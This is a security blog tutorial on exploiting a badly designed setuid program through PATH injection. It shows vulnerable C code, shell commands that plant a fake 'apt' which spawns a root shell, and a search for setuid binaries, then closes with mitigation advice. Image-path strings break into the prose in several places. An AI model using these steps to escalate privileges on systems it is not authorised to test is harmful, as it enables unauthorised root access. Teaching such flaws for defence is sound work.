This blog post is part of a series around security & privilege escalation.

Setuid is a Unix access rights flag that allow users to run an executable with the file system permissions of the executable’sowner.

For example the following executable:

$ stat /usr/bin/passwd
  File: /usr/bin/passwd
  Size: 63736       Blocks: 128        IO Block: 4096   regular file
Device: 801h/2049d  Inode: 2237        Links: 1
Access: (4755/-rwsr-xr-x)  Uid: (    0/    root)   Gid: (    0/    root)

will be executed as root (Uid 0), no matter what the current user is. This allows un-privileged user to change their password by editing /etc/shadow (root owner) using passwd.

How setuid may be exploited?

As you may already guess, being able to run process as different user may have serious implications, especially if theexecutable owner is root.

It means that executables with set{g,u}id flag must be carefully designed to prevent any exploitation. This is generally the case for executables that comes with the OS, but sometimes administrator may install / craft exploitable executable, that will greatly help hackers escalate privileges.

Let’s see how we can exploit a badly designed setuid program to gain root access.

Exploiting a setuid executable

They are multiple ways to exploit an executable (buffer overflow, stack overflow, etc…) in this section we will focus on one of the easiest vulnerability to exploit: path injection.

Path injection

Path injection is a common vulnerability. It happens when an executable refer to another one without using the full path to it. Let’s take an example:

$ cat apt-updater.c
#include <stdlib.h>
#include <unistd.h>

int main() {system("apt update");
  system("apt upgrade -y");
  return 0;

this executable has been designed by a sysadmin to allows non-root users to update the server packages to their latest version (very bad practice btw).

While it may look simple & secure, it has a serious vulnerability.

It uses the apt executable but doesn’t invoke directly /usr/bin/apt but rather relies on apt to be in the PATH.

Let’s see how we can use this at our advantages by polluting the PATH.

How does the PATH work exactly?

The PATH variable is used to lookup executables when issuing command. It is composed of directories to include while searching, separated by a semicolon ‘:'.

For example: /usr/local/bin:/usr/bin:/bin means that executables will be searched in the following directories:

  • /usr/local/bin
  • /usr/bin
  • /bin

The search will stop when the executable is found. It means that if apt is present in /usr/local/bin/apt it will not be searched in the others directories.

Exploiting the vulnerabilitySince the executable relies on the PATH to lookup apt location, we can simply create a dummy apt executable script that will open a shell (/bin/sh) and place it in a directory that will be in the PATH.

$ mkdir /tmp/foo # create random directory to put the script
$ echo /bin/sh > /tmp/foo/apt # create the script that will launch /bin/sh
$ chmod 755 /tmp/foo/apt # mark it as executable
$PATH=/tmp/foo:$PATH /usr/local/bin/apt-updater # override the PATH variable to that it contains /tmp/foo directory & execute the vulnerable program
# id # we are root!
uid=0(root) gid=1001(creekorful) groups=1001(creekorful)

When the OS has look up the apt executable it searches in the following location:

  • /tmp/foo

[rest of the path]

since we have appended /tmp/foo at first, the OS was able to find the apt executable in it and has executed it (with root privileges since they are propagated).

Finding vulnerable executables

Search for files with setuid bit set:

$ find / -xdev -perm -4000 2>/dev/null

here almost all executables look ‘classic’ ones and may not be easily vulnerable.

One executable looks interesting: /usr/local/bin/apt-updater, it looks manually crafted and may have been badly designed.

It is fairly easy to determinate if the executable is vulnerable: one could simply look if it calls other executables without using full path.

This is done easily by using strings which is a program used to extract printable characters from a file.$ strings /usr/local/bin/apt-updater
apt update
apt upgrade -y

It looks like apt-updater run apt update and apt upgrade -y without using full path. Path injection may bepossible.

How to mitigate theexploit?

The easiest way toprevent these exploits is simply by not using set{g,u}id executable atALL. I mean, the ones installed by default can be trusted, but you shouldn’t make one.

Better & simple options are available,such as using sudoers for example.

Happy hacking!